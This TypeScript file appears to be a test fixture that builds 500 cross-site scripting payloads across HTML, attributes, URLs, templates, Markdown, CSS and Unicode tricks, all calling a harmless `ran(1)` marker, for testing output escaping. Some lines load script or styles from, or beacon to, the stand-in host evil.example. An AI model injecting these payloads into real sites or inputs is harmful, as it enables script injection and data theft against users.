/**
 * Five hundred texts, each of which would run where somebody forgot to escape it: in text, attributes, addresses, scripts, styles,
 * SVG, MathML, templates, comments of HTML, JSON, Markdown, in odd letters, broken bytes, and at great length. What runs calls
 * `ran(…)`, which the tests listen to. The same five hundred every time.
 */
export const call = 'ran(1)'

/** Elements that would run by themselves once they are elements. */
const elements = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<a href="x" autofocus onfocus=${call} tabindex=1>x</a>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url(https://evil.example/b)}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus=${call}>x</button></form>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<template><script>${call}</script></template><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img srcset="https://evil.example/p.gif 1x">`,
  `<picture><source srcset=x><img src=x onerror=${call}></picture>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script type=module>${call}</script>`,
  `<script type="text/javascript" async defer>${call}</script>`,
  `<dialog open onanimationstart=${call} style="animation:x 1s">x</dialog>`,
  `<p popover onbeforetoggle=${call}>x</p>`,
  `<video autoplay onloadstart=${call} src=x></video>`,
]
/** What stands before: it leaves the place that the text was put into. */
const escapes = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '"/>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</option></select>',
  '</svg>',
  '&quot;>',
  String.raw`\">`,
  '\u2028',
  '> ',
]
/** Attributes that would run in an element which is there already. */
const attributes = [
  `" onmouseover="${call}`,
  `" autofocus onfocus="${call}`,
  `' autofocus onfocus='${call}`,
  `" style="animation-name:x" onanimationstart="${call}`,
  `x onerror=${call} src=x`,
  `" onload="${call}" x="`,
  `" srcdoc="<script>${call}</script>`,
  `" formaction="javascript:${call}`,
  `" href="javascript:${call}`,
  `" popover onbeforetoggle="${call}`,
]
const addresses = [
  `javascript:${call}`,
  ` javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\u0000script:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript://records.example/%0a${call}`,
  `https://a.example/"onmouseover="${call}`,
  `https://a.example/'onmouseover='${call}`,
  `https://a.example/?q=<script>${call}</script>`,
  `https://a.example/><img src=x onerror=${call}>`,
  `https://javascript:${call}@a.example/`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `//evil.example/${call}`,
  String.raw`https:\\evil.example\${call}`,
  `http://evil.example@records.example/`,
  `view-source:javascript:${call}`,
  `blob:javascript:${call}`,
  `https://a.example/\u202e${call}`,
  `https://[::1"onfocus="${call}]/`,
]
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{7*7}}`,
  '${' + call + '}',
  `<%= ${call} %>`,
  `#{${call}}`,
  `{% ${call} %}`,
  `{n, plural, one {<script>${call}</script>} other {#}}`,
  `'{'<b>x</b>'}' {name} <b>`,
  `[[${call}]]`,
  `@{${call}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `"},"x":"</script><script>${call}</script>`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
]
const markdown = [
  `[x](javascript:${call})`,
  `[x]: javascript:${call}`,
  `![x](x "onerror=${call}")`,
  `![x](https://evil.example/p.gif)`,
  `<javascript:${call}>`,
  '```html\n<script>' + call + '</script>\n```',
  `> > > > <img src=x onerror=${call}>`,
  `[taken out: <img src=x onerror=${call}>]`,
  `> [x](javascript:${call})\n\nhttps://a.example/](javascript:${call})`,
]
const styles = [
  `*{background:url(javascript:${call})}`,
  `expression(${call})`,
  `;-moz-binding:url(https://evil.example/x.xml#x)`,
  `}</style><script>${call}</script>`,
  `@import'https://evil.example/x.css';`,
]
const bytes = [
  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  `\u0000<script>${call}</script>`,
  `<img src=x onerror\u0000=${call}>`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\u2039script\u203a${call}\u2039/script\u203a`,
  `<\u017fcript>${call}</\u017fcript>`,
  `<svg/onload\u000c=${call}>`,
  `<img\u000bsrc=x\u000bonerror=${call}>`,
  `\ud800<script>${call}</script>\udc00`,
  `\ufeff<script>${call}</script>`,
  `\u202e<script>${call}</script>\u202c`,
  `<script\u00a0>${call}</script>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `<\u0130MG SRC=x ONERROR=${call}>`,
  `\r\n\r\n<script>${call}</script>`,
  `x\u001b]8;;javascript:${call}\u0007`,
]
const long = [
  `${'a'.repeat(900)}<script>${call}</script>`,
  `${'<b>'.repeat(150)}<img src=x onerror=${call}>`,
  `${'"'.repeat(300)}><svg onload=${call}>`,
  `${'> '.repeat(200)}<script>${call}</script>`,
  `<!--${'-'.repeat(500)}--><script>${call}</script>`,
]

/** Elements behind each way out, taken in a fixed order until there are enough. */
function* combined(): Generator<string> {
  for (let step = 0; ; step += 1)
    for (const [at, element] of elements.entries())
      yield `${escapes[(at * 7 + step) % escapes.length]!}${element}`
}

/** All of them, each once. */
export const payloads: readonly string[] = (() => {
  const all = new Set([
    ...elements,
    ...attributes,
    ...addresses,
    ...templates,
    ...markdown,
    ...styles,
    ...bytes,
    ...long,
  ])
  for (const one of combined()) {
    if (all.size >= 500) break
    all.add(one)
  }
  return [...all]
})()
